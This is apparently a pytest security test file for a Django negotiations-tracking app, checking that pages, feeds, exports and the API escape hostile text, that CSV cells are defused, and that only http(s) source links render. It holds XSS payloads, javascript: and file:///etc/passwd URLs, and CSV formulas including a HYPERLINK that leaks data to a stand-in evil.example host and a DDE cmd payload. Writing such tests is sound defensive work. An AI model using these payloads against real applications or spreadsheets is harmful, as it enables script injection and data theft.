"""Hostile text: every text an analyst or an imported file can set is escaped in pages,
htmx fragments, feeds, exports and the API; CSV cells that start like a formula (=, +, -,
@) are neutralised; source links are http(s) only, so no javascript: link ever renders."""

import csv
import io
import json
import re
from html.parser import HTMLParser
from types import SimpleNamespace
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.utils.html import escape

from negotiations.interchange import InvalidDocument, export_negotiation, import_negotiation
from negotiations.models import (
    OutcomeCitation,
    PositionCitation,
    RoundCitation,
    RoundHost,
    Source,
    StatementCitation,
)
from negotiations.search import KINDS

from .factories import (
    DelegationFactory,
    DelegationMemberFactory,
    IssueFactory,
    NegotiationFactory,
    OutcomeFactory,
    PartyFactory,
    PersonFactory,
    PositionFactory,
    RoundFactory,
    SourceFactory,
    StatementFactory,
)
from .roundform import form_data

pytestmark = pytest.mark.django_db

# --- Hostile texts ------------------------------------------------------------------------

PAYLOAD = '<script>alert("{}")</script><img src=x onerror=alert(1)>"\'&'


def hostile(name: str) -> str:
    """The payload, marked with `name` so that each field's copy can be found."""
    return PAYLOAD.format(name)


TEXT_FIELDS = [
    "negotiation-title",
    "negotiation-summary",
    "issue-title",
    "issue-description",
    "party-name",
    "party-alias",
    "person-name",
    "person-alias",
    "person-title",
    "round-title",
    "round-location",
    "round-summary",
    "member-role",
    "outcome-text",
    "position-text",
    "statement-text",
    "statement-original",
    "source-title",
    "source-publisher",
    "source-author",
    "draft-title",
]
TEXTS = {name: hostile(name) for name in TEXT_FIELDS}
# A statement's language holds 35 characters; it is written into lang="…", so this one
# tries to close the attribute. Source links must be http(s) but may carry the rest.
TEXTS["statement-language"] = '"><img src=x onerror=alert(35)>'
TEXTS["source-url"] = 'https://news.example.org/?q="><script>alert("source-url")</script>'
TEXTS["source-archived-url"] = 'https://web.archive.org/web/"><svg/onload=alert("archived-url")>'
PUBLISHED = [name for name in TEXTS if name != "draft-title"]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "cite"}
HX = {"HX-Request": "true"}


class _Page(HTMLParser):
    """Every tag with its attributes, and the text inside <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        if tag == "script":
            self._in_script = True
            self.scripts.append("")

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def parsed(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


def active_content(html: str) -> list[str]:
    """What in `html` a browser would run: raw payload tags, event-handler attributes,
    script elements that call alert, javascript: links."""
    found = []
    for raw in ("<script>alert(", "<img src=x", "<svg/onload"):
        if raw in html.lower():
            found.append(f"raw {raw}")
    page = parsed(html)
    for tag, attrs in page.tags:
        for name, value in attrs:
            if name.startswith("on"):
                found.append(f"<{tag} {name}={value!r}>")
            if (
                name in URL_ATTRIBUTES
                and value
                and link_scheme(value) in ("javascript", "vbscript")
            ):
                found.append(f"<{tag} {name}={value!r}>")
    found += [f"<script>{body[:60]}" for body in page.scripts if "alert(" in body]
    return found


def link_scheme(url: str) -> str:
    """The scheme a browser would see: it drops controls and spaces around and tabs and
    newlines inside a URL before reading it."""
    cleaned = re.sub(r"[\t\n\r]", "", url.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 \f\v"))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else ""


def shown(html: str) -> set[str]:
    """The hostile texts that `html` shows, escaped."""
    return {name for name, text in TEXTS.items() if escape(text) in html}


def strings(node):
    """Every string in a JSON document, keys aside."""
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from strings(value)


def client_for(user=None) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def row_counts() -> dict[str, int]:
    return {
        model._meta.label: model._default_manager.count()
        for model in apps.get_app_config("negotiations").get_models()
    }


# --- The hostile negotiation --------------------------------------------------------------


@pytest.fixture
def world(users):
    """A negotiation in which every free text is hostile: round 1 (published, renamed once
    so that its history has a change) has a host, a delegation, an outcome, a position, a
    statement and a source cited by all of them; round 2 (published) answers round 1's
    position and settles the issue; round 3 is a draft."""
    t = TEXTS
    negotiation = NegotiationFactory(
        slug="hostile", title=t["negotiation-title"], summary=t["negotiation-summary"]
    )
    issue = IssueFactory(
        negotiation=negotiation,
        slug="agenda",
        title=t["issue-title"],
        description=t["issue-description"],
        order=0,
    )
    party = PartyFactory(slug="northland", name=t["party-name"], aliases=[t["party-alias"]])
    other = PartyFactory(slug="southland", name="Southland")
    person = PersonFactory(
        slug="nora",
        name=t["person-name"],
        aliases=[t["person-alias"]],
        title=t["person-title"],
        party=party,
    )
    source = SourceFactory(
        negotiation=negotiation,
        key="report",
        url=t["source-url"],
        archived_url=t["source-archived-url"],
        title=t["source-title"],
        publisher=t["source-publisher"],
        author=t["source-author"],
    )
    first = RoundFactory(
        negotiation=negotiation,
        number=1,
        title="Opening",
        start_date="2022-03-01",
        end_date="2022-03-01",
    )
    first.title = t["round-title"]
    first.location, first.summary = t["round-location"], t["round-summary"]
    first.save()
    RoundHost.objects.create(round=first, party=party)
    RoundCitation.objects.create(round=first, source=source)
    delegation = DelegationFactory(round=first, party=party)
    DelegationMemberFactory(
        delegation=delegation, person=person, role=t["member-role"], is_head=True
    )
    outcome = OutcomeFactory(round=first, issue=issue, status="raised", text=t["outcome-text"])
    demand = PositionFactory(
        round=first, party=party, issue=issue, stance="demand", text=t["position-text"]
    )
    statement = StatementFactory(
        round=first,
        person=person,
        text=t["statement-text"],
        original=t["statement-original"],
        language=t["statement-language"],
    )
    OutcomeCitation.objects.create(outcome=outcome, source=source)
    PositionCitation.objects.create(position=demand, source=source)
    StatementCitation.objects.create(statement=statement, source=source)
    second = RoundFactory(
        negotiation=negotiation,
        number=2,
        title="Second round",
        start_date="2022-04-01",
        end_date="2022-04-01",
        location="Geneva",
    )
    OutcomeFactory(round=second, issue=issue, status="agreed", text="Settled.")
    PositionFactory(
        round=second, party=other, issue=issue, stance="accept", text="Yes.", responds_to=demand
    )
    draft = RoundFactory(negotiation=negotiation, number=3, title=t["draft-title"], published=False)
    # Every hostile value is one an analyst, an editor or an import may set.
    for obj in (negotiation, issue, party, person, source, first, statement, draft):
        obj.full_clean()
    return SimpleNamespace(**locals())


READER_PAGES = {
    "home": ("/", {}),
    "timeline": ("/negotiations/hostile/", {}),
    "timeline, filtered": ("/negotiations/hostile/?issue=agenda&party=northland&order=oldest", {}),
    "timeline fragment": ("/negotiations/hostile/?order=oldest", HX),
    "round": ("/negotiations/hostile/rounds/1/", {}),
    "next round": ("/negotiations/hostile/rounds/2/", {}),
    "board": ("/negotiations/hostile/issues/", {}),
    "board as of": ("/negotiations/hostile/issues/?as_of=2022-03-15", {}),
    "board compared": ("/negotiations/hostile/issues/?as_of=2022-04-30&compare=2022-03-15", {}),
    "issue": ("/negotiations/hostile/issues/agenda/", {}),
    "party": ("/parties/northland/", {}),
    "person": ("/people/nora/", {}),
    "search": ("/search/?q=alert", {}),
    "search in the negotiation": ("/search/?q=alert&in=hostile", {}),
    "search fragment": ("/search/?q=alert", HX),
    **{f"search {k.slug}": (f"/search/?q=alert&kind={k.slug}", {}) for k in KINDS},
    **{f"search {k.slug} fragment": (f"/search/?q=alert&kind={k.slug}", HX) for k in KINDS},
    "search for a hostile query": ("/search/?q=" + quote(hostile("query")), {}),
}
WORKSPACE_PAGES = {
    "workspace": "/log/",
    "new round form": "/log/hostile/rounds/new/",
    "round form": "/log/hostile/rounds/1/",
    "draft round form": "/log/hostile/rounds/3/",
    "round history": "/log/hostile/rounds/1/history/",
    "issue history": "/log/hostile/issues/agenda/history/",
}
# What some pages must show (escaped), so that the checks are not passing on a page that
# leaves the texts out. The round page shows everything round 1 holds or cites.
ROUND_TEXTS = {"round-title", "round-location", "round-summary"}
SHOWN_ON = {
    "home": {"negotiation-title", "negotiation-summary"},
    "timeline": {"negotiation-title", "issue-title", "party-name", "person-name", *ROUND_TEXTS},
    "timeline fragment": {"issue-title", "person-name", *ROUND_TEXTS},
    "round": set(PUBLISHED)
    - {"negotiation-summary", "issue-description", "party-alias", "person-alias"},
    "board compared": {"negotiation-title", "issue-title", "party-name"},
    "issue": {"issue-title", "issue-description", "outcome-text", "position-text", "round-title"},
    "party": {"party-name", "party-alias", "person-name", "person-title", "statement-text"},
    "person": {"person-name", "person-alias", "person-title", "member-role", "source-url"}
    | {"statement-text", "statement-original", "statement-language", "round-title"},
    "search": {"round-title", "round-summary", "outcome-text", "position-text", "statement-text"}
    | {"source-title", "source-publisher", "person-name", "person-alias", "party-name"},
    "search fragment": {"round-title", "outcome-text", "person-name", "party-alias"},
}


def check_pages(client: Client, pages: dict) -> tuple[dict, dict, dict]:
    """Fetch each page; return what each shows escaped, what is wrong with each, and the
    pages themselves."""
    seen, wrong, htmls = {}, {}, {}
    for name, (path, headers) in pages.items():
        response = client.get(path, headers=headers)
        html = response.content.decode()
        problems = active_content(html)
        if response.status_code != 200:
            problems.append(f"status {response.status_code}")
        if not response["Content-Type"].startswith("text/html"):
            problems.append(response["Content-Type"])
        if "&lt;script&gt;" not in html:
            problems.append("no escaped payload at all")
        if problems:
            wrong[name] = problems
        seen[name], htmls[name] = shown(html), html
    return seen, wrong, htmls


# --- 1. Every text is escaped -------------------------------------------------------------


def test_reader_pages_and_fragments_show_every_text_escaped(world):
    seen, wrong, htmls = check_pages(Client(), READER_PAGES)
    assert wrong == {}
    expected = dict(SHOWN_ON)
    if connection.vendor == "postgresql":
        # Search shows a highlighted snippet of these, escaped, not the whole text.
        snippets = {"round-summary", "outcome-text", "position-text", "statement-text"}
        for page in [page for page in expected if "search" in page]:
            expected[page] = expected[page] - snippets
        assert "onerror=<mark>alert</mark>" in htmls["search"]
    missing = {page: names - seen[page] for page, names in expected.items()}
    assert {page: names for page, names in missing.items() if names} == {}
    assert set().union(*seen.values()) == set(PUBLISHED)  # never the draft
    assert escape(hostile("query")) in htmls["search for a hostile query"]


def test_the_timeline_fragment_is_a_fragment(world):
    page = Client().get("/negotiations/hostile/", headers=HX).content.decode()
    assert "<body" not in page
    assert escape(TEXTS["round-title"]) in page


def test_workspace_pages_show_every_text_escaped(world, users):
    pages = {name: (path, {}) for name, path in WORKSPACE_PAGES.items()}
    seen, wrong, _ = check_pages(client_for(users["analyst"]), pages)
    assert wrong == {}
    assert "draft-title" in seen["workspace"]
    assert {"round-title", "round-location", "round-summary", "outcome-text"} <= seen["round form"]
    assert {"position-text", "statement-text", "statement-original"} <= seen["round form"]
    assert {"round-title", "member-role", "statement-language"} <= seen["round history"]
    assert {"issue-title", "round-title"} <= seen["issue history"]


def test_admin_pages_show_every_text_escaped(world, users):
    w = world
    pages = {
        f"{model} {view}": (f"/admin/negotiations/{model}/{pk}/{view}/", {})
        for model, pk in [
            ("round", w.first.pk),
            ("person", w.person.pk),
            ("party", w.party.pk),
            ("source", w.source.pk),
            ("statement", w.statement.pk),
            ("delegation", w.delegation.pk),
        ]
        for view in ("change", "history")
    }
    pages |= {f"{m} list": (f"/admin/negotiations/{m}/", {}) for m in ("round", "source", "person")}
    seen, wrong, _ = check_pages(client_for(users["admin"]), pages)
    assert wrong == {}
    assert "person-name" in seen["delegation change"]  # the members, read-only, in the round


def test_typed_text_comes_back_escaped_in_errors_messages_added_rows_and_conflicts(world, users):
    client = client_for(users["analyst"])
    data = form_data(client.get("/log/hostile/rounds/new/").context["editor"])
    typed = {
        "title": hostile("typed-title"),
        "location": hostile("typed-location"),
        "summary": hostile("typed-summary"),
        "start_date": "2022-05-10",
        "end_date": "2022-05-01",  # before the start: refused
        "new_sources-TOTAL_FORMS": "1",
        "new_sources-0-title": hostile("typed-source"),
        "new_sources-0-url": 'https://x.example/?"><script>alert("typed-url")</script>',
        "members-0-party": str(world.party.pk),
        "members-0-new_person": hostile("typed-person"),
        "members-0-role": hostile("typed-role"),
        "statements-0-person": str(world.person.pk),
        "statements-0-text": hostile("typed-quote"),
        "sources": ["new-0"],
    }
    data.update(typed)
    before = row_counts()

    refused = client.post("/log/hostile/rounds/new/", data)
    added = client.post(
        "/log/hostile/rounds/new/", {**data, "action": "add-statements"}, headers=HX
    )

    assert (refused.status_code, added.status_code) == (400, 200)
    assert row_counts() == before
    for response in (refused, added):
        html = response.content.decode()
        assert active_content(html) == []
        for name, value in typed.items():
            if isinstance(value, str) and "<" in value:
                assert escape(value) in html, name

    data["end_date"] = "2022-05-11"
    saved = client.post("/log/hostile/rounds/new/", data, follow=True)
    assert saved.redirect_chain[-1][0] == "/log/hostile/rounds/4/"
    html = saved.content.decode()
    assert active_content(html) == []
    assert f"Logged round 4: {escape(hostile('typed-title'))}" in html

    stale = form_data(client.get("/log/hostile/rounds/4/").context["editor"])
    assert client.post("/log/hostile/rounds/4/", {**stale, "title": "Theirs"}).status_code == 302
    conflict = client.post("/log/hostile/rounds/4/", {**stale, "title": hostile("yours")})
    assert conflict.status_code == 409
    html = conflict.content.decode()
    assert active_content(html) == []
    assert f"<td>{escape(hostile('yours'))}</td>" in html


def test_the_import_page_escapes_the_files_texts_in_problems_and_results(world, users):
    client = client_for(users["editor"])
    document = json.loads(export_negotiation(world.negotiation))
    document["negotiation"]["slug"] = hostile("slug")
    document["rounds"][0]["hosts"] = [hostile("host")]
    refused = client.post(
        "/log/import/", {"file": SimpleUploadedFile("bad.json", json.dumps(document).encode())}
    )
    assert refused.status_code == 400
    html = refused.content.decode()
    assert active_content(html) == []
    # Problems quote the value as JSON: "<script>alert(\"slug\")…
    assert "negotiation.slug: &quot;&lt;script&gt;alert(\\&quot;slug\\&quot;)" in html
    assert "rounds[0].hosts[0]: unknown party &quot;&lt;script&gt;alert(&quot;host&quot;)" in html

    document["negotiation"].update(slug="hostile-copy", title=hostile("imported-title"))
    document["rounds"][0]["hosts"] = ["northland"]
    imported = client.post(
        "/log/import/", {"file": SimpleUploadedFile("copy.json", json.dumps(document).encode())}
    )
    assert imported.status_code == 200
    html = imported.content.decode()
    assert active_content(html) == []
    assert f"Imported “{escape(hostile('imported-title'))}”" in html


ATOM = "{http://www.w3.org/2005/Atom}"


def feed_texts(response) -> tuple[list[str], list[str], list[str]]:
    """A feed's plain texts, attribute values and HTML texts (type="html"), checking that
    it is well-formed Atom with no element smuggled in."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/atom+xml")
    assert b"<script" not in response.content and b"<img" not in response.content
    root = ElementTree.fromstring(response.content)
    plain, attributes, html = [], [], []
    for element in root.iter():
        assert element.tag.startswith(ATOM), element.tag
        attributes += element.attrib.values()
        (html if element.get("type") == "html" else plain).append(element.text or "")
    return plain, attributes, html


def test_feeds_carry_every_text_as_text_and_escape_it_in_their_html(world):
    t = TEXTS
    plain, attributes, html = feed_texts(Client().get("/negotiations/hostile/feed/"))
    assert f"{t['negotiation-title']}: rounds" in plain
    assert t["negotiation-summary"] in plain
    assert f"Round 1: {t['round-title']}" in plain
    assert t["issue-title"] in attributes  # <category term="…">
    for text in html:
        assert active_content(text) == []
    descriptions = " ".join(html)
    for name in ("round-location", "round-summary", "issue-title", "outcome-text"):
        assert escape(t[name]) in descriptions, name

    plain, attributes, html = feed_texts(Client().get("/negotiations/hostile/issues/agenda/feed/"))
    assert f"{t['issue-title']}: status changes in {t['negotiation-title']}" in plain
    assert t["issue-description"] in plain
    for text in html:
        assert active_content(text) == []
    descriptions = " ".join(html)
    for name in ("issue-title", "round-title", "outcome-text"):
        assert escape(t[name]) in descriptions, name


JSON_PATHS = [
    "/negotiations/hostile/export.json",
    "/api/v1/negotiations",
    "/api/v1/negotiations/hostile",
    "/api/v1/negotiations/hostile/rounds",
    "/api/v1/negotiations/hostile/rounds/1",
    "/api/v1/negotiations/hostile/issues/agenda/history",
    "/api/v1/parties",
    "/api/v1/parties/northland",
    "/api/v1/people",
    "/api/v1/people/nora",
]


def test_json_export_and_api_carry_every_text_verbatim_as_json(world):
    client = Client()
    found = {}
    for path in JSON_PATHS:
        response = client.get(path)
        assert response.status_code == 200, path
        assert response["Content-Type"].startswith("application/json"), path
        assert response["X-Content-Type-Options"] == "nosniff", path
        found[path] = set(strings(json.loads(response.content)))
    assert set(TEXTS[name] for name in PUBLISHED) <= found[JSON_PATHS[0]]
    assert set(TEXTS[name] for name in PUBLISHED) <= set().union(*list(found.values())[1:])
    assert TEXTS["draft-title"] not in set().union(*found.values())


def read_csv(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["X-Content-Type-Options"] == "nosniff"
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_csv_downloads_carry_every_text_as_data(world):
    t, client = TEXTS, Client()
    rounds = read_csv(client.get("/negotiations/hostile/rounds.csv"))
    first = rounds[0]
    assert (first["title"], first["location"], first["summary"], first["hosts"]) == (
        t["round-title"],
        t["round-location"],
        t["round-summary"],
        t["party-name"],
    )
    assert first["source_urls"] == t["source-url"]
    outcomes = read_csv(client.get("/negotiations/hostile/outcomes.csv"))
    assert (outcomes[0]["issue"], outcomes[0]["text"]) == (t["issue-title"], t["outcome-text"])
    positions = read_csv(client.get("/negotiations/hostile/positions.csv"))
    assert (positions[0]["party"], positions[0]["issue"], positions[0]["text"]) == (
        t["party-name"],
        t["issue-title"],
        t["position-text"],
    )


def test_timelinejs_html_texts_are_escaped(world):
    t = TEXTS
    response = Client().get("/negotiations/hostile/timelinejs.json")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    document = json.loads(response.content)
    slides = [document["title"], *document["events"]]
    html = [slide["text"][part] for slide in slides for part in ("headline", "text")]
    for text in html:
        assert active_content(text) == [], text
    assert document["title"]["text"] == {
        "headline": escape(t["negotiation-title"]),
        "text": f"<p>{escape(t['negotiation-summary'])}</p>",
    }
    first = document["events"][0]["text"]
    assert first["headline"] == f"{escape(t['round-title'])} — {escape(t['round-location'])}"
    assert f"<p>{escape(t['round-summary'])}</p>" in first["text"]
    assert f"<li>{escape(t['issue-title'])}: Raised</li>" in first["text"]


# --- 2. CSV formula injection -------------------------------------------------------------

FORMULAS = {
    "round title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "location": "+1",
    "summary": "-1+1",
    "host": "@SUM(1)",
    "issue": "=1+2",
    "outcome": "@SUM(1)",
    "party": "=cmd|' /C calc'!A0",
    "position": "-1+1",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


@pytest.fixture
def formulas(db):
    f = FORMULAS
    negotiation = NegotiationFactory(slug="formulas")
    issue = IssueFactory(negotiation=negotiation, slug="sums", title=f["issue"])
    plain_issue = IssueFactory(negotiation=negotiation, slug="plain", title="Plain issue")
    host = PartyFactory(slug="host", name=f["host"])
    party = PartyFactory(slug="caller", name=f["party"])
    first = RoundFactory(
        negotiation=negotiation,
        number=1,
        title=f["round title"],
        location=f["location"],
        summary=f["summary"],
    )
    RoundHost.objects.create(round=first, party=host)
    OutcomeFactory(round=first, issue=issue, status="raised", text=f["outcome"])
    PositionFactory(round=first, party=party, issue=issue, text=f["position"])
    second = RoundFactory(
        negotiation=negotiation, number=2, title=f["tab"], location="Vienna", summary="2+2=4"
    )
    OutcomeFactory(round=second, issue=plain_issue, status="raised", text=f["carriage return"])
    PositionFactory(round=second, party=party, issue=plain_issue, text="A plain text.")
    return negotiation


def test_csv_cells_that_start_like_a_formula_get_a_leading_apostrophe(formulas):
    f, client = FORMULAS, Client()
    rounds = read_csv(client.get("/negotiations/formulas/rounds.csv"))
    assert [(r["title"], r["location"], r["summary"], r["hosts"]) for r in rounds] == [
        ("'" + f["round title"], "'" + f["location"], "'" + f["summary"], "'" + f["host"]),
        ("'" + f["tab"], "Vienna", "2+2=4", ""),
    ]
    outcomes = read_csv(client.get("/negotiations/formulas/outcomes.csv"))
    assert [(o["issue"], o["text"]) for o in outcomes] == [
        ("'" + f["issue"], "'" + f["outcome"]),
        ("Plain issue", "'" + f["carriage return"]),
    ]
    positions = read_csv(client.get("/negotiations/formulas/positions.csv"))
    assert [(p["party"], p["issue"], p["text"]) for p in positions] == [
        ("'" + f["party"], "'" + f["issue"], "'" + f["position"]),
        ("'" + f["party"], "Plain issue", "A plain text."),
    ]


# --- 3. Source links are http(s) only -----------------------------------------------------

NOT_WEB = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://files.example.org/report.pdf",
]


@pytest.mark.parametrize("field", ["url", "archived_url"])
@pytest.mark.parametrize("url", NOT_WEB)
def test_model_validation_refuses_links_that_are_not_http(field, url):
    source = Source(negotiation=NegotiationFactory(), key="bad-link", **{field: url})
    with pytest.raises(ValidationError) as refused:
        source.full_clean()
    assert field in refused.value.message_dict
    setattr(source, field, "https://news.example.org/report")
    source.full_clean()


@pytest.mark.parametrize("url", ["javascript:alert(1)", "JaVaScRiPt:alert(2)", "ftp://x.org/"])
def test_the_analysts_new_source_form_refuses_a_javascript_link(world, users, url):
    client = client_for(users["analyst"])
    data = form_data(client.get("/log/hostile/rounds/new/").context["editor"])
    data.update(
        {
            "title": "A round",
            "start_date": "2022-05-10",
            "new_sources-TOTAL_FORMS": "1",
            "new_sources-0-url": url,
            "new_sources-0-title": "Bad link",
            "sources": ["new-0"],
        }
    )
    before = row_counts()
    response = client.post("/log/hostile/rounds/new/", data)
    assert response.status_code == 400
    errors = response.context["editor"].forms["new_sources"].errors[0]["url"]
    assert set(errors) == {"Enter a valid URL."}
    assert "New source 1: Link: Enter a valid URL." in response.content.decode()
    assert row_counts() == before
    assert active_content(response.content.decode()) == []


@pytest.mark.parametrize("field", ["url", "archived_url"])
def test_the_admin_source_form_refuses_a_javascript_link(world, users, field):
    client = client_for(users["admin"])
    data = {
        "negotiation": world.negotiation.pk,
        "key": "bad-link",
        "url": "https://news.example.org/ok",
        "title": "A report",
        "publisher": "",
        "author": "",
        "published_on": "",
        "archived_url": "",
        "_save": "Save",
    }
    data[field] = "JaVaScRiPt:alert(1)"
    added = client.post("/admin/negotiations/source/add/", data)
    changed = client.post(f"/admin/negotiations/source/{world.source.pk}/change/", data)
    for response in (added, changed):
        assert response.status_code == 200  # the form again, with its error
        assert response.context["adminform"].form.errors[field] == ["Enter a valid URL."]
    assert not Source.objects.filter(key="bad-link").exists()
    assert Source.objects.get(pk=world.source.pk).url == TEXTS["source-url"]


def test_import_refuses_a_javascript_link_naming_its_path(world, users):
    document = json.loads(export_negotiation(world.negotiation))
    document["negotiation"]["slug"] = "imported"
    document["sources"][0].update(url="javascript:alert(1)", archived_url="JaVaScRiPt:alert(2)")
    before = row_counts()
    with pytest.raises(InvalidDocument) as refused:
        import_negotiation(json.dumps(document))
    paths = {problem.path for problem in refused.value.problems}
    assert paths == {"sources[0].url", "sources[0].archived_url"}
    assert all("http" in problem.message for problem in refused.value.problems)

    upload = SimpleUploadedFile("links.json", json.dumps(document).encode())
    response = client_for(users["editor"]).post("/log/import/", {"file": upload})
    assert response.status_code == 400
    assert "sources[0].url: " in response.content.decode()
    assert row_counts() == before


def test_a_javascript_link_forced_into_the_database_never_renders_as_a_link(world, users):
    pages = {
        "round": (Client(), "/negotiations/hostile/rounds/1/"),
        "search": (Client(), "/search/?q=alert"),
        "search sources": (Client(), "/search/?q=alert&kind=sources"),
        "person": (Client(), "/people/nora/"),
        "round form": (client_for(users["analyst"]), "/log/hostile/rounds/1/"),
        "admin source": (
            client_for(users["admin"]),
            f"/admin/negotiations/source/{world.source.pk}/change/",
        ),
    }
    linked = escape(TEXTS["source-url"])
    before = {name: c.get(path).content.decode() for name, (c, path) in pages.items()}
    assert all(f'href="{linked}"' in before[name] for name in ["round", "search", "person"])

    Source.objects.filter(pk=world.source.pk).update(
        url="javascript:alert(1)", archived_url="JaVaScRiPt:alert(2)"
    )

    for name, (client, path) in pages.items():
        response = client.get(path)
        assert response.status_code == 200, name
        html = response.content.decode()
        hrefs = [
            value
            for _, attrs in parsed(html).tags
            for attr, value in attrs
            if attr in URL_ATTRIBUTES and value
        ]
        assert [h for h in hrefs if link_scheme(h) in ("javascript", "vbscript")] == [], name
        assert active_content(html) == [], name
        if name != "admin source":  # the source is still listed, as text
            shows = (
                escape(TEXTS["source-publisher"]) in html or escape(TEXTS["source-title"]) in html
            )
            assert shows, name


def test_link_scheme_reads_links_as_a_browser_does():
    assert link_scheme(" \x01java\tscr\nipt:alert(1)") == "javascript"
    assert link_scheme("JaVaScRiPt:alert(2)") == "javascript"
    assert link_scheme("https://example.org/") == "https"
    assert link_scheme("/relative/javascript:alert(1)") == ""
    assert active_content('<a href=" javascript:alert(1)">x</a>') != []
    assert active_content('<p onclick="x()">x</p>') != []
    assert active_content("&lt;script&gt;alert(1)&lt;/script&gt;") == []
